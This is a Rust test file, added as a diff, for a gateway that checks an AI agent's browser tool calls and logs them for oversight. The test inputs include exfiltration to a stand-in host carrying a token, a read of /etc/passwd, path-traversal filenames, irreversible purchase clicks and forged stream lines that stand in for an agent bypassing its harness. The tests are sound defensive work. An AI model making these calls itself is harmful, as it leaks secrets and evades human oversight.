@@ -1,0 +1,403 @@
+//! The gateway through `persona run`, with the fake worker acting as a harness whose hook did not
+//! run (it calls the MCP server its config names directly) and the test kit's stub browser as
+//! the real server. The stub's call log is the witness: a call the gateway refused is not in it.
+
+use crate::kit::*;
+
+/// The fake worker's `@mcp` script for `calls` (server `browser`), then a clean exit.
+fn script(calls: &[(&str, serde_json::Value)]) -> String {
+    let mut s = String::new();
+    for (tool, args) in calls {
+        s.push_str(&format!("@mcp browser {tool} {args}\n"));
+    }
+    s.push_str("@exit 0\n");
+    s
+}
+
+fn mcp_config(sb: &Sandbox) -> std::path::PathBuf {
+    let browser = sb.stub_browser("browser");
+    sb.write_claude_mcp_config(&browser)
+}
+
+fn run(sb: &Sandbox, harness: &str, extra: &[&str]) -> std::process::Output {
+    let cfg = mcp_config(sb);
+    let cfg = cfg.display().to_string();
+    let mut args = vec!["--mcp-config", cfg.as_str()];
+    args.extend_from_slice(extra);
+    sb.run_cmd(harness, &args).output().unwrap()
+}
+
+fn gateway_record(sb: &Sandbox) -> Vec<serde_json::Value> {
+    let dir = sb.run_dirs().pop().expect("a run dir");
+    std::fs::read_to_string(dir.join("gateway.jsonl"))
+        .unwrap_or_default()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+/// Off-allowlist and irreversible calls never reach the server, on both harnesses, boxed and
+/// not; the worker reads the guard's reason in an MCP tool error; the journal records denials
+/// (not violations) and the run ends clean.
+#[test]
+fn the_gateway_refuses_what_the_guard_would_and_the_server_never_sees_it() {
+    for (harness, unboxed) in [("codex", false), ("claude", false), ("codex", true)] {
+        let sb = if unboxed {
+            Sandbox::unboxed()
+        } else {
+            Sandbox::with_user_files()
+        };
+        let browser = sb.stub_browser("browser");
+        sb.set_script(&script(&[
+            (
+                "navigate",
+                serde_json::json!({"url": "https://staging.example.com/cart"}),
+            ),
+            (
+                "navigate",
+                serde_json::json!({"url": "https://evil.example/x?token=1"}),
+            ),
+            ("click", serde_json::json!({"label": "Place order"})),
+            (
+                "navigate",
+                serde_json::json!({"url": "https://staging.example.com/checkout/confirm"}),
+            ),
+        ]));
+        let before = sb.snapshot();
+        let out = run(&sb, harness, &[]);
+        assert_eq!(out.status.code(), Some(0), "{harness}: {}", stderr(&out));
+        // The witness: only the allowed call reached the server.
+        let seen = browser.seen();
+        assert_eq!(seen.len(), 1, "{harness}: {seen:?}");
+        assert_eq!(seen[0].1["url"], "https://staging.example.com/cart");
+        // What the worker read: the guard's own message in a tool error.
+        let results = sb.results_lines();
+        assert_eq!(results.len(), 4, "{results:?}");
+        assert_eq!(results[0]["is_error"], false);
+        for (r, reason) in results[1..].iter().zip([
+            "outside_allowlist",
+            "irreversible_label",
+            "irreversible_path",
+        ]) {
+            assert_eq!(r["is_error"], true, "{r}");
+            let text = r["text"].as_str().unwrap();
+            assert!(text.starts_with("Leopold persona guard: "), "{text}");
+            assert!(text.ends_with(&format!("(reason: {reason})")), "{text}");
+        }
+        // The tool list the worker was offered: the stub's three tools, all on the list.
+        assert_eq!(
+            results[0]["tools"],
+            serde_json::json!(["navigate", "click", "type"])
+        );
+        // The journal: three denials with their reasons, no violation; the run is clean.
+        let journal = sb.journal();
+        let outcomes: Vec<&str> = journal[1..]
+            .iter()
+            .map(|a| a["outcome"].as_str().unwrap())
+            .collect();
+        assert_eq!(
+            outcomes,
+            ["completed", "denied", "denied", "denied"],
+            "{journal:?}"
+        );
+        assert_eq!(journal[2]["denied_reason"], "outside_allowlist");
+        assert!(journal
+            .iter()
+            .all(|a| a.get("verdict").is_none_or(|v| v["verdict"] != "violation")));
+        let rj = sb.run_json();
+        assert_eq!(rj["end"]["outcome"], "clean", "{rj}");
+        assert!(rj["end"].get("gateway_mismatches").is_none(), "{rj}");
+        // The gateway's own record: what the server was asked, hosts only.
+        let rec = gateway_record(&sb);
+        let calls: Vec<&serde_json::Value> = rec.iter().filter(|l| l["event"] == "call").collect();
+        assert_eq!(calls.len(), 4, "{rec:?}");
+        assert_eq!(calls[0]["verdict"], "allowed");
+        assert_eq!(calls[1]["reason"], "outside_allowlist");
+        let text = serde_json::to_string(&rec).unwrap();
+        assert!(
+            !text.contains("https://") && !text.contains("token"),
+            "{text}"
+        );
+        // The project and HOME are as they were (the run's own record aside).
+        let after = sb.snapshot();
+        assert_eq!(before, after, "{harness}");
+    }
+}
+
+/// A server that offers more than a persona needs: the gateway lists only what is on its list
+/// and refuses a call to anything else, and malformed messages get a named refusal.
+#[test]
+fn tools_off_the_list_and_malformed_messages_are_refused() {
+    let sb = Sandbox::with_user_files();
+    let browser = sb.stub_browser("browser");
+    sb.set_script(
+        "@mcp browser webmcp_place_order {}\n\
+         @mcp browser browser_run_code_unsafe {\"code\":\"x\"}\n\
+         @mcp-raw browser [{\"jsonrpc\":\"2.0\",\"id\":5,\"method\":\"tools/call\",\"params\":{\"name\":\"navigate\",\"arguments\":{\"url\":\"https://evil.example/\"}}}]\n\
+         @mcp-raw browser {\"jsonrpc\":\"2.0\",\"id\":6,\"method\":\"tools/call\",\"params\":{\"name\":\"navigate\",\"arguments\":\"https://evil.example/\"}}\n\
+         @mcp-raw browser {\"jsonrpc\":\"2.0\",\"id\":7,\"method\":\"resources/read\",\"params\":{\"uri\":\"file:///etc/passwd\"}}\n\
+         @exit 0\n",
+    );
+    let out = run(&sb, "codex", &[]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(browser.seen().is_empty(), "{:?}", browser.seen());
+    let r = sb.results_lines();
+    assert!(
+        r[0]["text"]
+            .as_str()
+            .unwrap()
+            .ends_with("(reason: tool_not_listed)"),
+        "{}",
+        r[0]
+    );
+    assert!(
+        r[1]["text"]
+            .as_str()
+            .unwrap()
+            .ends_with("(reason: tool_not_listed)"),
+        "{}",
+        r[1]
+    );
+    assert!(
+        r[2]["answer"]["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("refused"),
+        "{}",
+        r[2]
+    );
+    assert!(
+        r[3]["answer"]["result"]["content"][0]["text"]
+            .as_str()
+            .unwrap()
+            .ends_with("(reason: gateway_unjudgeable)"),
+        "{}",
+        r[3]
+    );
+    assert!(
+        r[4]["answer"]["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("does not pass on"),
+        "{}",
+        r[4]
+    );
+    // The roots the stub could have asked for are the gateway's to answer: the worker's client
+    // was never asked.
+    assert!(r.iter().all(|x| x
+        .get("roots_asked")
+        .is_none_or(|v| v == &serde_json::json!([]))));
+}
+
+/// A `filename` aimed at a project file is refused before the server sees it; the file is
+/// unchanged.
+#[test]
+fn a_filename_outside_the_output_folder_is_refused() {
+    let sb = Sandbox::with_user_files();
+    let browser = sb.stub_browser("browser");
+    let target = sb.project.join("run.sh");
+    std::fs::write(&target, "#!/bin/sh\necho hi\n").unwrap();
+    sb.set_script(&format!(
+        "@mcp browser type {}\n@mcp browser type {}\n@exit 0\n",
+        serde_json::json!({"selector": "#q", "text": "x", "filename": target}),
+        serde_json::json!({"selector": "#q", "text": "x", "filename": "../../../../run.sh"}),
+    ));
+    let out = run(&sb, "codex", &[]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(browser.seen().is_empty(), "{:?}", browser.seen());
+    for r in sb.results_lines() {
+        assert!(
+            r["text"]
+                .as_str()
+                .unwrap()
+                .ends_with("(reason: filename_outside_output)"),
+            "{r}"
+        );
+    }
+    assert_eq!(
+        std::fs::read_to_string(&target).unwrap(),
+        "#!/bin/sh\necho hi\n"
+    );
+}
+
+/// The two records compared: a call the harness's stream shows that never went through the
+/// gateway (a forged stream line), and a call that went through the gateway that the stream
+/// never showed (the worker calling the server behind the harness's back), are reported in the
+/// summary, run.json, `run_ended` and the report, as warnings: the outcome stands.
+#[test]
+fn a_call_in_the_stream_the_gateway_never_saw_is_reported() {
+    let sb = Sandbox::with_user_files();
+    let browser = sb.stub_browser("browser");
+    let forged = serde_json::json!({"type":"item.completed","item":{"id":"item_forged","type":"mcp_tool_call",
+        "server":"browser","tool":"navigate","arguments":{"url":"https://staging.example.com/x"},"status":"completed"}});
+    sb.set_script(&format!(
+        "@mcp browser navigate {}\n{forged}\n@mcp-raw browser {}\n@exit 0\n",
+        serde_json::json!({"url": "https://staging.example.com/cart"}),
+        serde_json::json!({"jsonrpc":"2.0","id":9,"method":"tools/call","params":{"name":"type","arguments":{"selector":"#q","text":"x"}}})
+    ));
+    let out = run(&sb, "codex", &["--json"]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(browser.seen().len(), 2);
+    let e = stderr(&out);
+    assert!(
+        e.contains("gateway record: the harness's stream shows 2 `mcp__browser__navigate` call(s) that reached a server; the gateway forwarded 1"),
+        "{e}"
+    );
+    assert!(
+        e.contains("gateway record: the gateway forwarded 1 `mcp__browser__type` call(s) to the browser; the harness's stream shows 0"),
+        "{e}"
+    );
+    let rj = sb.run_json();
+    assert_eq!(
+        rj["end"]["gateway_mismatches"].as_array().unwrap().len(),
+        2,
+        "{rj}"
+    );
+    let ended: serde_json::Value = stdout(&out)
+        .lines()
+        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
+        .find(|v| v["event"] == "run_ended")
+        .unwrap();
+    assert_eq!(ended["gateway_mismatches"], rj["end"]["gateway_mismatches"]);
+    let report = std::fs::read_to_string(sb.run_dirs().pop().unwrap().join("report.html")).unwrap();
+    assert!(report.contains("gateway-mismatches"), "the report names it");
+}
+
+/// The real server runs outside the box, a child of the supervisor: a SIGKILLed supervisor takes
+/// it along (the kernel's parent-death signal), even a server that would outlive its stdin (a
+/// shell that sleeps on after the stub); what it started itself carries the run's id, and
+/// `persona recover` stops it, so nothing of the run is left.
+#[test]
+fn a_sigkilled_supervisor_takes_the_gateways_servers_with_it() {
+    let sb = Sandbox::with_user_files();
+    sb.set_script("@mcp-hold browser 60000\n@exit 0\n");
+    let stub = sb.stub_browser("browser");
+    let cfg = sb.logs.join("stubborn-mcp.json");
+    let sh = format!(
+        "'{}' --log '{}'; sleep 600",
+        stub.bin.display(),
+        stub.log.display()
+    );
+    std::fs::write(
+        &cfg,
+        serde_json::json!({"mcpServers": {"browser": {"command": "/bin/sh", "args": ["-c", sh]}}})
+            .to_string(),
+    )
+    .unwrap();
+    let mut child = sb
+        .run_cmd("codex", &["--mcp-config", cfg.to_str().unwrap()])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    wait_for(20, "the worker's MCP session", || {
+        !sb.results_lines().is_empty()
+    });
+    assert_eq!(
+        sb.results_lines()[0]["ok"],
+        true,
+        "{:?}",
+        sb.results_lines()
+    );
+    let run_id =
+        serde_json::from_str::<serde_json::Value>(&std::fs::read_to_string(sb.active()).unwrap())
+            .unwrap()["run_id"]
+            .as_str()
+            .unwrap()
+            .to_owned();
+    let of_run = |what: &str| {
+        processes_of_run(&run_id)
+            .into_iter()
+            .filter(|p| {
+                std::fs::read(format!("/proc/{p}/cmdline"))
+                    .is_ok_and(|c| String::from_utf8_lossy(&c).contains(what))
+            })
+            .collect::<Vec<u32>>()
+    };
+    // The shell is the gateway's direct child, outside the box.
+    let shells = of_run("; sleep 600");
+    assert_eq!(shells.len(), 1, "{:?}", processes_of_run(&run_id));
+    signal(child.id(), "KILL");
+    let _ = child.wait();
+    wait_for(5, "the server to die with the supervisor", || {
+        !alive(shells[0])
+    });
+    let out = sb.recover();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    wait_for(5, "nothing of the run left", || {
+        processes_of_run(&run_id).is_empty()
+    });
+}
+
+/// `persona mcp-relay` is bytes both ways, nothing more, and exits when either side closes: the
+/// harness closing its stdin, or the gateway closing the socket.
+#[test]
+fn the_relay_copies_bytes_and_exits_when_either_side_closes() {
+    use std::io::{BufRead as _, Read as _, Write as _};
+    use std::os::unix::net::UnixListener;
+    use std::process::{Command, Stdio};
+    let dir = tempfile::tempdir().unwrap();
+    let sock = dir.path().join("mcp-browser.sock");
+    let listener = UnixListener::bind(&sock).unwrap();
+    let relay = || {
+        Command::new(LEOPOLD)
+            .args(["persona", "mcp-relay", "--socket"])
+            .arg(&sock)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap()
+    };
+    // The harness side closes first.
+    let mut child = relay();
+    let (mut conn, _) = listener.accept().unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    stdin
+        .write_all(b"{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\"}\n")
+        .unwrap();
+    let mut line = String::new();
+    std::io::BufReader::new(&conn).read_line(&mut line).unwrap();
+    assert_eq!(
+        line, "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\"}\n",
+        "verbatim"
+    );
+    conn.write_all(b"{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{}}\n")
+        .unwrap();
+    let mut out = child.stdout.take().unwrap();
+    let mut got = [0u8; 36];
+    out.read_exact(&mut got).unwrap();
+    assert_eq!(&got[..], b"{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{}}");
+    drop(stdin);
+    let st = wait_exit(&mut child);
+    assert_eq!(st.code(), Some(0));
+    let mut rest = Vec::new();
+    let _ = conn.read_to_end(&mut rest);
+    assert!(rest.is_empty(), "the gateway saw the end");
+    // The gateway side closes first: the relay exits though its stdin stays open.
+    let mut child = relay();
+    let (conn, _) = listener.accept().unwrap();
+    drop(conn);
+    let st = wait_exit(&mut child);
+    assert_eq!(st.code(), Some(0));
+    // No gateway at all: exit 1, saying why.
+    drop(listener);
+    std::fs::remove_file(&sock).unwrap();
+    let out = relay().wait_with_output().unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot connect"));
+}
+
+fn wait_exit(child: &mut std::process::Child) -> std::process::ExitStatus {
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
+    loop {
+        if let Some(st) = child.try_wait().unwrap() {
+            return st;
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "the relay did not exit"
+        );
+        std::thread::sleep(std::time::Duration::from_millis(10));
+    }
+}
